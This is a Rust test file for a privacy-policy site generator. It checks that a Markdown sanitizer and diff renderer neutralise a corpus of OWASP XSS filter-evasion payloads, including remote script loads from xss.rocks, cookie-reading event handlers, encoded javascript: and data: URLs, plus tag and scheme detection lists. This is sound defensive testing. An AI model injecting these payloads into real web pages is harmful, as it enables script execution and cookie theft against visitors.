//! Nothing from a source can put script on a page. The sanitizer against the OWASP XSS
//! filter-evasion cases (cheat sheet), in prose and in prose diffs: whatever a source
//! writes, no script, event handler, style, frame, object, form or script URL reaches a
//! page, and a diff cannot be made to write one. And through the whole build: raw HTML,
//! event handlers, iframes and `javascript:` URLs in any prose or plain field of a
//! revision or company come out as harmless text.

use privsite::diff::diff_text;
use privsite::diff::told::{Marks, markdown_diff_html};
use privsite::text::markdown::to_html;

use crate::prelude::{Fixture, page, proptest_config, texts};

/// From the OWASP "XSS Filter Evasion" cheat sheet, plus Markdown forms of the same.
#[rustfmt::skip]
const CORPUS: &[&str] = &[
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">x</a>",
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
    "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"http://66.102.7.147/\">XSS</A>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<td style=\"x\" onclick=\"alert(1)\">cell</td>",
    "[x](javascript:alert(1))",
    "[x](jAvAsCrIpT&#x3A;alert(1))",
    "![x](javascript:alert(1))",
    "[x][r]\n\n[r]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "## Heading {#x onclick=alert(1)}",
    "## Heading {: #\"><script>alert(1)</script>}",
    "## H\n{: #\"onmouseover=\"alert(1)}",
    "<ins>fake</ins><del>fake</del>",
];

/// What must not appear in a page: elements that run or load, event handlers, style,
/// script URLs.
fn assert_inert(html: &str, source: &str) {
    let lower = html.to_lowercase();
    for tag in [
        "<script",
        "<style",
        "<iframe",
        "<frame",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<button",
        "<img",
        "<svg",
        "<math",
        "<link",
        "<meta",
        "<base",
        "<body",
        "<xml",
        "<bgsound",
        "<noscript",
        "<ins",
        "<del",
    ] {
        assert!(!lower.contains(tag), "{tag} from {source:?}: {html}");
    }
    let mut rest = lower.as_str();
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = rest.find('>').unwrap_or(rest.len());
        let tag = &rest[..end];
        if tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
            // Attribute names: the tag without its quoted values.
            let names: String = tag
                .split('"')
                .enumerate()
                .filter(|(i, _)| i % 2 == 0)
                .map(|(_, part)| part)
                .collect::<Vec<_>>()
                .join("\"\"");
            for attr in ["style=", "background=", "dynsrc=", "lowsrc=", "formaction="] {
                assert!(!names.contains(attr), "{attr} from {source:?}: {html}");
            }
            for word in names.split([' ', '\t', '\n', '/']) {
                assert!(
                    !(word.starts_with("on") && word.contains('=')),
                    "event handler from {source:?}: {html}"
                );
            }
            // Every attribute value, as a browser reads an address: entities decoded,
            // white space and controls ignored.
            for value in tag.split('"').skip(1).step_by(2) {
                let url: String = decode(value)
                    .chars()
                    .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
                    .collect();
                for scheme in ["javascript:", "vbscript:", "data:"] {
                    assert!(!url.starts_with(scheme), "{scheme} from {source:?}: {html}");
                }
            }
        }
        rest = &rest[end..];
    }
}

/// Character references in an attribute value, decoded.
fn decode(value: &str) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find(';').filter(|e| *e < 12);
        let entity = end.map(|e| &rest[1..e]);
        let decoded = match entity {
            Some("amp") => Some('&'),
            Some("quot") => Some('"'),
            Some("lt") => Some('<'),
            Some("gt") => Some('>'),
            Some("colon") => Some(':'),
            Some(e) if e.starts_with("#x") => u32::from_str_radix(&e[2..], 16)
                .ok()
                .and_then(char::from_u32),
            Some(e) if e.starts_with('#') => e[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        };
        match (decoded, end) {
            (Some(c), Some(e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            _ => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

#[test]
fn no_case_of_the_owasp_corpus_gets_through_the_sanitizer() {
    for case in CORPUS {
        assert_inert(&to_html(case), case);
        // Inside a table cell and after a heading, as real notices hold them.
        assert_inert(
            &to_html(&format!("<table><tr><td>{case}</td></tr></table>")),
            case,
        );
        assert_inert(&to_html(&format!("## Title\n\n{case}\n")), case);
    }
}

#[test]
fn no_case_gets_through_a_prose_diff() {
    let marks = Marks {
        inserted: "added".into(),
        deleted: "removed".into(),
        end: String::new(),
    };
    for case in CORPUS {
        for (old, new) in [
            ("Safe text.".to_string(), case.to_string()),
            (case.to_string(), "Safe text.".to_string()),
            // An edit that deletes the pieces a filter would have seen.
            (case.replace("script", "scr ipt"), case.to_string()),
            (
                format!("<table><tr><td>a</td></tr></table>\n\n{case}"),
                format!("<table><tr><td>b {case}</td></tr></table>"),
            ),
        ] {
            let html = markdown_diff_html(&diff_text(&old, &new), &marks);
            // Only privsite's own marks, with their hidden words.
            let unmarked = html
                .replace("<ins>", "")
                .replace("</ins>", "")
                .replace("<del>", "")
                .replace("</del>", "");
            assert_inert(&unmarked, case);
        }
    }
}

#[test]
fn the_structure_of_policies_passes() {
    let html = to_html(
        "<table><caption>Recipients</caption><thead><tr><th scope=\"col\" colspan=\"2\">A</th></tr></thead>\
         <tbody><tr><td rowspan=\"2\">b</td><td><a href=\"#x\" id=\"y\">c</a></td></tr></tbody></table>\n\n\
         <dl><dt>t</dt><dd>d</dd></dl>\n\n<details><summary>s</summary>\n\nbody\n\n</details>\n\n\
         H<sub>2</sub>O<sup>1</sup> <abbr title=\"General Data Protection Regulation\">GDPR</abbr><br>\
         <a href=\"https://imy.se\">IMY</a> <a href=\"mailto:a@b.se\">mail</a> <a href=\"tel:+46\">tel</a> <a href=\"../x/\">rel</a>",
    );
    for kept in [
        "<caption>Recipients</caption>",
        "<th scope=\"col\" colspan=\"2\">A</th>",
        "<td rowspan=\"2\">b</td>",
        "<a href=\"#x\" id=\"y\">c</a>",
        "<dl><dt>t</dt><dd>d</dd></dl>",
        "<details><summary>s</summary>",
        "<sub>2</sub>",
        "<sup>1</sup>",
        "<abbr title=\"General Data Protection Regulation\">GDPR</abbr>",
        "<br>",
        "href=\"https://imy.se\"",
        "href=\"mailto:a@b.se\"",
        "href=\"tel:+46\"",
        "href=\"../x/\"",
    ] {
        assert!(html.contains(kept), "{kept}: {html}");
    }
}

/// Pieces that split and join the corpus in new ways: tag openings, quotes, line starts.
#[rustfmt::skip]
const PIECES: &[&str] = &[
    "<", ">", "\"", "'", "=", "/", "\n", "\n\n", "## ", "| a |\n|---|\n| ", " ", "javascript:",
    "on", "error", "load", "<a href=", "<td ", "<table>", "</td>", "{: #", "}", "{#", "&#x6A;",
    "script", "style", "<img src=x ", "alert(1)", "[x](", ")", "`", "\u{E000}", "\u{E001}",
    "\u{E002}",
];

fn fragment() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    prop::collection::vec(
        prop_oneof![prop::sample::select(CORPUS), prop::sample::select(PIECES)],
        0..12,
    )
    .prop_map(|p| p.concat())
}

proptest::proptest! {
    #![proptest_config(proptest_config())]

    /// Any mix of the corpus and the pieces that split it stays inert, alone and diffed.
    #[test]
    fn mixes_of_the_corpus_stay_inert(old in fragment(), new in fragment()) {
        assert_inert(&to_html(&new), &new);
        let marks = Marks { inserted: "added".into(), deleted: "removed".into(), end: String::new() };
        let html = markdown_diff_html(&diff_text(&old, &new), &marks);
        let unmarked = html.replace("<ins>", "").replace("</ins>", "").replace("<del>", "").replace("</del>", "");
        assert_inert(&unmarked, &format!("{old:?} -> {new:?}"));
    }
}

// Every field of a revision, through the whole build.

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=\\\"https://evil.example\\\"></iframe>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href=\\\"javascript:alert(1)\\\">x</a>",
    "<svg onload=alert(1)>",
    "\\\"><script>alert(1)</script>",
];

#[test]
fn no_source_field_can_inject_script() {
    let fixture = Fixture::copy("basic");
    let attack = ATTACKS.join(" ");
    let revision = format!(
        r#"title = "{attack}"
summary = "{attack}"
intro = """{attack}"""

[[sections]]
id = "data"
title = "{attack}"
body = """
{attack}

- {attack}

[ref]: javascript:alert(2)
"""

[[purposes]]
id = "billing"
title = "{attack}"
legal_bases = ["legitimate-interests"]
legitimate_interest = "{attack}"
body = """{attack}"""

[[processors]]
name = "{attack}"
purpose = "{attack}"
data = "{attack}"
group = "{attack}"
url = "https://x.example/\\\"><script>alert(1)</script>"
"#
    );
    fixture.write("content/acme/en/2024-01-01.toml", revision);
    fixture.write(
        "content/acme/company.toml",
        r#"name = "<script>alert(1)</script>"
address = "<img src=x onerror=alert(1)>"
default_locale = "en"
"#,
    );
    // Not minified, every page renders through Tera; minified, the policy and diff pages
    // are written without it (src/render/native) and must be as inert.
    let plain = fixture.built();
    fixture.replace("site.toml", "minify = false", "minify = true");
    let minified = fixture.built();
    for built in [&plain, &minified] {
        assert_no_script(built);
    }
}

/// No page or feed of `built` holds an element that runs or loads, an event handler or a
/// script address; the attack text is still on the page, escaped.
fn assert_no_script(built: &privsite::Built) {
    let mut checked = 0;
    // HTML pages and XML feeds are what browsers and feed readers render; the JSON and
    // CSV exports carry the source text as data, verbatim.
    for (path, text) in texts(built) {
        if !(path.ends_with(".html") || path.ends_with(".xml")) {
            continue;
        }
        for tag in tags(text) {
            let lower = tag.to_lowercase();
            let name: String = lower
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric())
                .collect();
            assert!(
                !["script", "iframe", "svg", "img", "object", "embed",].contains(&name.as_str()),
                "{path}: <{tag}>"
            );
            for (name, value) in attributes(&lower) {
                // An attribute named on… (a word inside a quoted value is not one).
                let is_handler =
                    name.starts_with("on") && name.chars().all(|c| c.is_ascii_alphabetic());
                assert!(!is_handler, "{path}: event handler in <{tag}>");
                for scheme in ["javascript:", "data:", "vbscript:"] {
                    assert!(!value.trim_start().starts_with(scheme), "{path}: <{tag}>");
                }
            }
        }
        checked += 1;
    }
    assert!(checked > 10);
    // The text is still there, escaped, for the reader to see.
    let html = page(built, "acme/en/2024-01-01/index.html");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}

/// The tags of an HTML text: what stands between '<' and '>', where '<' opens an element.
fn tags(html: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        rest = &rest[i + 1..];
        if rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            let end = rest.find('>').unwrap_or(rest.len());
            out.push(&rest[..end]);
            rest = &rest[end..];
        }
    }
    out
}

/// The attributes of a tag's text (`a href="x" hidden`), as (name, value): a value quoted
/// with `"` or `'` is one value whatever it holds, spaces and `on…=` included.
fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut out = Vec::new();
    let after_name = tag
        .find(|c: char| c.is_whitespace() || c == '/')
        .unwrap_or(tag.len());
    let mut rest = &tag[after_name..];
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() {
            return out;
        }
        let end = rest
            .find(|c: char| c.is_whitespace() || c == '=' || c == '/')
            .unwrap_or(rest.len());
        let name = &rest[..end];
        rest = rest[end..].trim_start();
        let Some(after) = rest.strip_prefix('=') else {
            out.push((name, ""));
            continue;
        };
        let after = after.trim_start();
        let (value, next) = match after.chars().next() {
            Some(q @ ('"' | '\'')) => {
                let close = after[1..].find(q).map_or(after.len(), |i| i + 1);
                (&after[1..close], &after[(close + 1).min(after.len())..])
            }
            _ => {
                let end = after.find(char::is_whitespace).unwrap_or(after.len());
                (&after[..end], &after[end..])
            }
        };
        out.push((name, value));
        rest = next;
    }
}

#[test]
fn the_attribute_scanner_keeps_quoted_values_whole() {
    assert_eq!(
        attributes(r#"meta content="a onerror=x" name=description"#),
        vec![("content", "a onerror=x"), ("name", "description")]
    );
    assert_eq!(
        attributes("input required type=email onfocus='x y'"),
        vec![("required", ""), ("type", "email"), ("onfocus", "x y")]
    );
    assert_eq!(
        attributes(r#"a href = "javascript:x""#),
        vec![("href", "javascript:x")]
    );
}

#[test]
fn the_tag_scanner_sees_tags_not_text() {
    assert_eq!(
        tags("<p class=x>&lt;img onerror=1&gt;</p><a href=\"y\">"),
        vec!["p class=x", "a href=\"y\""]
    );
}
